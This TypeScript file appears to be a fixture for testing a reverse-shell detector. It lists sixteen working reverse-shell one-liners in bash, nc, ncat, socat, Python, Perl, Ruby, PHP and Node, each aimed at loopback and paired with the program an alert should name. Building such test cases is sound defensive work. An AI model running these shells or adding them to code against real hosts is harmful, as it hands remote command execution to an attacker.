/** Real reverse shells over loopback, each as an attacker would type it. */

export interface Shell {
  name: string
  command: string
  args(port: number, directory: string): string[]
  /** What the alert must name as the program that takes its commands from the network. */
  program: RegExp
}

const host = '127.0.0.1'
const sh = (script: (port: number, directory: string) => string) => (port: number, directory: string) => [
  '-c',
  script(port, directory),
]

export const reverseShells: Shell[] = [
  {
    name: 'bash with /dev/tcp',
    command: 'bash',
    args: sh((port) => `bash -i >& /dev/tcp/${host}/${port} 0>&1`),
    program: /^bash$/,
  },
  {
    name: 'bash that wires itself up after its exec',
    command: 'bash',
    args: sh((port) => `exec 0<>/dev/tcp/${host}/${port} 1>&0 2>&0; while read -r line; do eval "$line"; done`),
    program: /^bash$/,
  },
  {
    name: 'nc -e',
    command: 'nc.traditional',
    args: (port) => ['-e', '/bin/sh', host, String(port)],
    program: /^dash$/,
  },
  { name: 'ncat -e', command: 'ncat', args: (port) => ['-e', '/bin/bash', host, String(port)], program: /^bash$/ },
  {
    name: 'mkfifo, sh and nc',
    command: 'sh',
    args: sh(
      (port, directory) =>
        `mkfifo ${directory}/f; cat ${directory}/f | /bin/sh -i 2>&1 | nc.traditional ${host} ${port} > ${directory}/f`,
    ),
    program: /^dash$/,
  },
  {
    name: 'half socket, half pipe',
    command: 'bash',
    args: sh((port) => `exec 3<>/dev/tcp/${host}/${port}; sh -i <&3 2>&1 | cat >&3`),
    program: /^dash$/,
  },
  {
    name: 'two cats that were handed the socket, and start after the shell',
    command: 'bash',
    args: sh(
      (port, directory) =>
        `exec 3<>/dev/tcp/${host}/${port}; mkfifo ${directory}/f ${directory}/g; (cat <&3 >${directory}/f)& (cat <${directory}/g >&3)& exec 3>&-; sh <${directory}/f >${directory}/g 2>&1`,
    ),
    program: /^dash$/,
  },
  {
    name: 'socat with a shell in between',
    command: 'socat',
    args: (port) => [`TCP:${host}:${port}`, 'SYSTEM:sh; true'],
    program: /^dash$/,
  },
  {
    name: 'python with dup2 and a pty',
    command: 'python3',
    args: (port) => [
      '-c',
      `import socket,os,pty;s=socket.create_connection(("${host}",${port}));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")`,
    ],
    program: /^python3/,
  },
  {
    name: 'python with subprocess',
    command: 'python3',
    args: (port) => [
      '-c',
      `import socket,subprocess;s=socket.create_connection(("${host}",${port}));subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)`,
    ],
    program: /^(dash|python3)/,
  },
  {
    name: 'perl',
    command: 'perl',
    args: (port) => [
      '-e',
      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${port},inet_aton("${host}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`,
    ],
    program: /^(perl|dash)$/,
  },
  {
    name: 'ruby',
    command: 'ruby',
    args: (port) => [
      '-rsocket',
      '-e',
      `s=TCPSocket.new("${host}",${port});Process.wait(spawn("/bin/sh","-i",in: s,out: s,err: s))`,
    ],
    program: /^(ruby|dash)/,
  },
  {
    name: 'php',
    command: 'php',
    args: (port) => [
      '-r',
      `$s=fsockopen("${host}",${port});$p=proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$pipes);proc_close($p);`,
    ],
    program: /^(php|dash)/,
  },
  {
    name: 'node, which relays between the socket and the pipes of a shell',
    command: 'node',
    args: (port) => [
      '-e',
      `const n=require("net"),s=require("child_process").spawn("/bin/sh",[]),k=new n.Socket();k.connect(${port},"${host}",()=>{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)});k.on("close",()=>process.exit())`,
    ],
    program: /^dash$/,
  },
  {
    name: 'socat',
    command: 'socat',
    args: (port) => [`TCP:${host}:${port}`, 'EXEC:/bin/sh'],
    program: /^dash$/,
  },
  {
    name: 'socat with a pty',
    command: 'socat',
    args: (port) => [`TCP:${host}:${port}`, 'EXEC:"bash -li",pty,stderr,setsid,sigint,sane'],
    program: /^bash$/,
  },
]
